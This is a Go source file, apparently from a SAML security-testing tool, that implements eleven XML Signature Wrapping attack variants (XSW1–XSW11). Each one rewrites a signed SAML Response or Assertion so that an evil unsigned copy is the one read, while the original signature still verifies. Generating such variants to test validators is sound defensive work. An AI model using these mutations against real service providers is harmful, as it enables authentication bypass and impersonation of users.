package attacks

import (
	"github.com/beevik/etree"

	"github.com/clavebridge/clavebridge/bridge/samlxml"
)

// xswVariants are the SAMLRaider/USENIX wrapping permutations (XSW1–8) and
// two root-level extras.
func xswVariants() []Variant {
	return []Variant{
		{XSW, "XSW1 evil Response root, signed Response copy inside its Signature", mutate(xsw1)},
		{XSW, "XSW2 evil Response root, signed Response copy detached before its Signature", mutate(xsw2)},
		{XSW, "XSW3 evil Assertion before the signed Assertion", mutate(xsw3)},
		{XSW, "XSW4 signed Assertion wrapped inside an evil Assertion", mutate(xsw4)},
		{XSW, "XSW5 signed Assertion changed in place, original copy appended to the Response", mutate(xsw5)},
		{XSW, "XSW6 signed Assertion changed in place, original copy inside its Signature", mutate(xsw6)},
		{XSW, "XSW7 signed Assertion moved into samlp:Extensions, evil Assertion in its place", mutate(xsw7)},
		{XSW, "XSW8 signed Assertion changed in place, original copy in a ds:Object of its Signature", mutate(xsw8)},
		{XSW, "XSW9 evil Response root with the same ID, signed Response nested after it", mutate(xsw9)},
		{XSW, "XSW10 evil Assertion after the signed Assertion", mutate(xsw10)},
		{XSW, "XSW11 unsigned evil Response root wrapping the signed Response", mutate(xsw11)},
	}
}

// evilResponse returns an evil copy of the root with ID id and without any
// signature, and the original root (detached from the document).
func evilResponse(m *message, id string) (evil, orig *etree.Element) {
	orig = m.root
	evil = orig.Copy()
	removeAllSignatures(evil)
	setID(evil, id)
	m.doc.SetRoot(evil)
	for _, a := range samlxml.Children(evil, samlxml.NSAssertion, "Assertion") {
		evilize(a)
	}
	if len(samlxml.Children(evil, samlxml.NSAssertion, "Assertion")) == 0 {
		evilize(evil)
	}
	return evil, orig
}

// xsw1: the evil Response carries the original Signature, whose last child
// is the original signed Response (without its Signature).
func xsw1(m *message) error {
	sig, err := m.rootSignature()
	if err != nil {
		return err
	}
	sig = sig.Copy()
	evil, orig := evilResponse(m, evilID)
	origCopy := orig.Copy()
	removeSignatures(origCopy)
	sig.AddChild(origCopy)
	evil.InsertChildAt(insertAfterIssuerAndSignature(evil), sig)
	return nil
}

// xsw2: as XSW1 but the original Response sits before the Signature.
func xsw2(m *message) error {
	sig, err := m.rootSignature()
	if err != nil {
		return err
	}
	sig = sig.Copy()
	evil, orig := evilResponse(m, evilID)
	origCopy := orig.Copy()
	removeSignatures(origCopy)
	at := insertAfterIssuerAndSignature(evil)
	evil.InsertChildAt(at, sig)
	evil.InsertChildAt(at, origCopy)
	return nil
}

// xsw3: an evil unsigned Assertion (new ID) before the signed one.
func xsw3(m *message) error {
	a, err := m.signedAssertion()
	if err != nil {
		return err
	}
	m.root.InsertChildAt(a.Index(), evilAssertion(a, evilID))
	return nil
}

// xsw4: the signed Assertion becomes the child of an evil Assertion.
func xsw4(m *message) error {
	a, err := m.signedAssertion()
	if err != nil {
		return err
	}
	evil := evilAssertion(a, evilID)
	m.root.InsertChildAt(a.Index(), evil)
	m.root.RemoveChild(a)
	evil.AddChild(a)
	return nil
}

// xsw5: the signed Assertion's values are changed (its Signature kept) and
// an unsigned copy of the original is appended to the Response.
func xsw5(m *message) error {
	a, err := m.signedAssertion()
	if err != nil {
		return err
	}
	orig := detachedCopy(a)
	removeSignatures(orig)
	evilize(a)
	m.root.AddChild(orig)
	return nil
}

// xsw6: as XSW5 but the original copy goes inside the Assertion's Signature.
func xsw6(m *message) error {
	a, err := m.signedAssertion()
	if err != nil {
		return err
	}
	orig := detachedCopy(a)
	removeSignatures(orig)
	evilize(a)
	signature(a).AddChild(orig)
	return nil
}

// xsw7: a samlp:Extensions holding the signed Assertion; an evil unsigned
// Assertion with the same ID takes its place.
func xsw7(m *message) error {
	a, err := m.signedAssertion()
	if err != nil {
		return err
	}
	evil := evilAssertion(a, getID(a))
	idx := a.Index()
	orig := detachedCopy(a)
	m.root.RemoveChild(a)
	m.root.InsertChildAt(idx, evil)
	ext := m.root.CreateElement("evilp:Extensions")
	m.root.RemoveChild(ext)
	ext.CreateAttr("xmlns:evilp", samlxml.NSProtocol)
	ext.AddChild(orig)
	m.root.InsertChildAt(insertAfterIssuerAndSignature(m.root), ext)
	return nil
}

// xsw8: the Assertion's values are changed, its Signature kept, and a
// ds:Object in that Signature holds the original (without Signature).
func xsw8(m *message) error {
	a, err := m.signedAssertion()
	if err != nil {
		return err
	}
	orig := detachedCopy(a)
	removeSignatures(orig)
	evilize(a)
	sig := signature(a)
	obj := etree.NewElement("evilds:Object")
	obj.CreateAttr("xmlns:evilds", samlxml.NSDSig)
	obj.AddChild(orig)
	sig.AddChild(obj)
	return nil
}

// xsw9: an evil copy of the root with the same ID (and the original
// Signature) is the new root; the signed original is its last child.
func xsw9(m *message) error {
	sig, err := m.rootSignature()
	if err != nil {
		return err
	}
	sig = sig.Copy()
	evil, orig := evilResponse(m, getID(m.root))
	evil.InsertChildAt(insertAfterIssuerAndSignature(evil), sig)
	evil.AddChild(orig)
	return nil
}

// xsw10: an evil unsigned Assertion (new ID) after the signed one.
func xsw10(m *message) error {
	a, err := m.signedAssertion()
	if err != nil {
		return err
	}
	m.root.InsertChildAt(a.Index()+1, evilAssertion(a, evilID))
	return nil
}

// xsw11: an unsigned evil Response root holds the untouched signed Response.
func xsw11(m *message) error {
	if _, err := m.rootSignature(); err != nil {
		return err
	}
	evil, orig := evilResponse(m, evilID)
	evil.AddChild(orig)
	return nil
}
